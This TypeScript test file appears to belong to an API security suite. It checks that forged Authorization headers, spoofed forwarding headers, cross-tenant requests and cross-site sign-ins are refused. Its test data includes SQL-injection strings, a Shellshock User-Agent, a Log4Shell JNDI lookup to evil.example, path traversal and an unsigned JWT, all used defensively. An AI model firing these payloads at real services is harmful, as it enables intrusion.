import { randomUUID } from 'node:crypto';
import type { Case } from '../case.ts';
import type { Answer, Shot } from '../shot.ts';
import type { World } from '../world.ts';
import { long, mine } from './calls.ts';

/** Authorization headers that open no session. */
const authorisations: readonly [name: string, value: (token: string) => string | string[]][] = [
  ['nothing after Bearer', () => 'Bearer '],
  ['Basic', (token) => `Basic ${Buffer.from(`a:${token}`).toString('base64')}`],
  ['the token alone', (token) => token],
  ['two tokens', (token) => `Bearer ${token} ${token}`],
  ['a token and a comma', (token) => `Bearer ${token},`],
  ['quotes around it', (token) => `Bearer "${token}"`],
  ['another letter at its end', (token) => `Bearer ${token}a`],
  ['its first half', (token) => `Bearer ${token.slice(0, 20)}`],
  ['in capitals', (token) => `Bearer ${token.toUpperCase()}`],
  ['a hash in its place', () => `Bearer ${'A'.repeat(43)}`],
  ['SQL', () => "Bearer x'or'1'='1"],
  ['a JWT without a signature', () => 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1MSJ9.'],
  ['7,000 letters', () => `Bearer ${long(7_000)}`],
  ['null', () => 'Bearer null'],
  ['undefined', () => 'Bearer undefined'],
  ['__proto__', () => 'Bearer __proto__'],
  ['a percent-encoded token', (token) => `Bearer %74${token.slice(1)}`],
  ['letters beyond ASCII', () => 'Bearer \u00e5\u00e6\u00f8'],
];

const withHeader =
  (name: string, value: string | string[]) =>
  ({ me: owner }: World): Shot => ({
    to: 'GET /api/user',
    token: owner.token,
    headers: { [name]: value },
  });

/** Headers that don't change who is signed in. */
const harmless: readonly [name: string, value: string | string[]][] = [
  ['X-Forwarded-For', '127.0.0.1'],
  ['X-Forwarded-For', "1.1.1.1' or 1=1"],
  ['X-Forwarded-For', long(5_000)],
  ['X-Forwarded-For', '1.2.3.4:99999, [::1]:80'],
  ['X-Forwarded-For', '\u00e5'],
  ['X-Forwarded-For', ['1.1.1.1', '2.2.2.2']],
  ['Accept-Language', long(5_000)],
  ['Accept-Language', `${'da;q=0.9,'.repeat(600)}`],
  ['Accept-Language', 'da;q=NaN,en;q=1e999,*;q=-1'],
  ['Accept-Language', '../../etc/passwd'],
  ['Accept-Encoding', 'gzip;q=0, *;q=0'],
  ['Accept-Encoding', 'br;q=2, gzip;q=abc'],
  ['Accept-Encoding', `${'gzip,'.repeat(1_000)}`],
  ['Accept', 'text/html'],
  ['Accept', 'application/xml;q=1'],
  ['Range', 'bytes=0-1'],
  ['Range', `bytes=${'0-0,'.repeat(1_000)}0-0`],
  ['If-None-Match', '*'],
  ['If-Modified-Since', 'Sat, 31 Dec 9999 23:59:59 GMT'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Original-URL', '/api/shop'],
  ['X-Rewrite-URL', '/api/operator/jobs/1'],
  ['X-Forwarded-Host', 'evil.example'],
  ['X-Forwarded-Proto', 'javascript'],
  ['Forwarded', 'for=127.0.0.1;host=evil.example'],
  ['Via', '1.1 evil'],
  ['Referer', 'https://evil.example/'],
  ['User-Agent', `() { :; }; echo ${long(2_000)}`],
  ['User-Agent', '$\u007bjndi:ldap://evil.example/a}'],
  ['Cookie', 'token=another'],
  ['Expect', '100-continue'],
  ['TE', 'trailers, chunked'],
  ['Upgrade', 'h2c'],
  ['X-Offline-Replay', long(3_000)],
];

const isMe = async ({ status, text }: Answer, { me: owner }: World) =>
  status !== 200 || JSON.parse(text).data.id === owner.userId
    ? undefined
    : 'it tells of somebody else';

const tenants: readonly [name: string, value: (world: World) => string | string[]][] = [
  ['another’s', ({ stranger }) => `shop:${stranger.shopId}`],
  ['a supplier', ({ me }) => `supplier:${me.supplierId}`],
  ['nonsense', () => 'shop:*'],
  ['SQL', () => "shop:1' or '1'='1"],
  ['5,000 letters', () => `shop:${long(5_000)}`],
  [
    'both',
    ({ mine, stranger }) => [`shop:${mine['GET /shop'].owner.shopId}`, `shop:${stranger.shopId}`],
  ],
  ['nothing', () => ''],
];

const keys: readonly [name: string, value: string | string[], comes: number | number[]][] = [
  ['nothing', '', 422],
  ['a blank in it', 'a b', 422],
  ['256 letters', long(256), 422],
  ['5,000 letters', long(5_000), 422],
  ['letters beyond ASCII', 'n\u00f8gle', 422],
  ['two of them', [randomUUID(), randomUUID()], [200, 422]],
  ['SQL', "'or'1'='1", 200],
  ['__proto__', '__proto__', 200],
];

/** Content types of a sign-in that another site sends (point 5). */
const types: readonly [type: string | null, comes: number | number[]][] = [
  ['text/plain', 415],
  ['text/plain; application/json', 415],
  ['application/x-www-form-urlencoded', 415],
  ['multipart/form-data; boundary=x', 415],
  ['application/jsonp', 415],
  ['text/json', 415],
  ['application/xml', 415],
  ['', 415],
  [null, 415],
  ['application/json, text/plain', [415, 422]],
  ['application/json; charset=utf-8', 422],
  ['Application/JSON', 422],
  ['application/json; charset=utf-7', [415, 422]],
];

const elsewhere: readonly [name: string, headers: Record<string, string>][] = [
  ['cross-site', { 'Sec-Fetch-Site': 'cross-site' }],
  ['from a neighbour of the same site', { 'Sec-Fetch-Site': 'same-site' }],
  ['cross-site, by navigation', { 'Sec-Fetch-Site': 'cross-site', 'Sec-Fetch-Mode': 'navigate' }],
  [
    'cross-site, from an origin of its own',
    { 'Sec-Fetch-Site': 'cross-site', Origin: 'https://evil.example' },
  ],
  ['cross-site, from no origin', { 'Sec-Fetch-Site': 'cross-site', Origin: 'null' }],
];
const signIns = [
  'POST /auth/login',
  'POST /auth/signup',
  'POST /auth/forgot-password',
  'POST /auth/reset-password',
] as const;

export const headers: readonly Case[] = [
  ...authorisations.map(
    ([name, value]): Case => ({
      title: `Authorization: ${name}`,
      comes: 401,
      code: 'unauthenticated',
      shot: ({ me: owner }) => ({
        to: 'GET /api/user',
        headers: { Authorization: value(owner.token) },
      }),
    }),
  ),
  {
    title: 'Authorization: two of them, mine and another’s',
    comes: [200, 400, 401],
    holds: isMe,
    shot: ({ me, stranger }) => ({
      to: 'GET /api/user',
      headers: { Authorization: [`Bearer ${me.token}`, `Bearer ${stranger.token}`] },
    }),
  },
  {
    title: 'the cookie alone opens no call',
    comes: 401,
    shot: ({ me: owner }) => ({
      to: 'GET /api/user',
      headers: { Cookie: `token=${owner.token}` },
    }),
  },
  {
    title: 'a token in the query opens no call',
    comes: 401,
    shot: ({ me: owner }) => ({
      to: `GET /api/user?token=${owner.token}&access_token=${owner.token}`,
    }),
  },
  ...harmless.map(
    ([name, value], at): Case => ({
      title: `${name}, the ${at + 1}th of those that change nothing`,
      comes: name === 'Expect' ? [200, 417] : 200,
      holds: isMe,
      shot: withHeader(name, value),
    }),
  ),
  ...tenants.map(
    ([name, value]): Case => ({
      title: `X-Tenant: ${name}`,
      comes: 409,
      code: 'tenant_mismatch',
      shot: (world) => mine('GET /shop', { headers: { 'X-Tenant': value(world) } })(world),
    }),
  ),
  ...keys.map(
    ([name, value, comes]): Case => ({
      title: `Idempotency-Key: ${name}`,
      comes,
      code: 'invalid',
      shot: mine('PATCH /user', { headers: { 'Idempotency-Key': value } }),
    }),
  ),
  ...types.map(
    ([type, comes]): Case => ({
      title: `a login as ${type ?? 'no type at all'}`,
      comes,
      shot: {
        to: 'POST /api/auth/login',
        body: JSON.stringify({ email: 'nobody@example.com', password: 'not the right one' }),
        headers: { 'Content-Type': type },
      },
    }),
  ),
  ...signIns.flatMap((call) =>
    elsewhere.map(
      ([name, given]): Case => ({
        title: `${call}: ${name}`,
        comes: 403,
        code: 'forbidden',
        shot: mine(call, {
          raw: JSON.stringify({
            name: 'Åse',
            email: `${randomUUID()}@example.com`,
            password: 'long enough to be one',
            token: 'x'.repeat(30),
          }),
          headers: given,
        }),
      }),
    ),
  ),
  ...(['same-origin', 'none'] as const).map(
    (site): Case => ({
      title: `a login from ${site} is a login`,
      comes: 422,
      code: 'wrong_credentials',
      shot: {
        to: 'POST /api/auth/login',
        json: { email: 'nobody-at-all@example.com', password: 'not the right one' },
        headers: { 'Sec-Fetch-Site': site },
      },
    }),
  ),
  ...(['https://evil.example', 'null', 'http://127.0.0.1.evil.example', 'file://'] as const).map(
    (origin): Case => ({
      title: `the origin ${origin} may read no answer`,
      comes: [200, 204, 403, 404],
      holds: async ({ headers }) =>
        headers['access-control-allow-origin'] === undefined
          ? undefined
          : 'it lets the origin read',
      shot: ({ me: owner }) => ({
        to: 'GET /api/user',
        token: owner.token,
        headers: { Origin: origin },
      }),
    }),
  ),
  ...(['deflate', 'gzip', 'br', 'identity, gzip'] as const).map(
    (encoding): Case => ({
      title: `a body that says it is ${encoding} is no JSON`,
      comes: [200, 415, 422],
      shot: mine('PATCH /user', {
        raw: new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]),
        headers: { 'Content-Encoding': encoding },
      }),
    }),
  ),
];
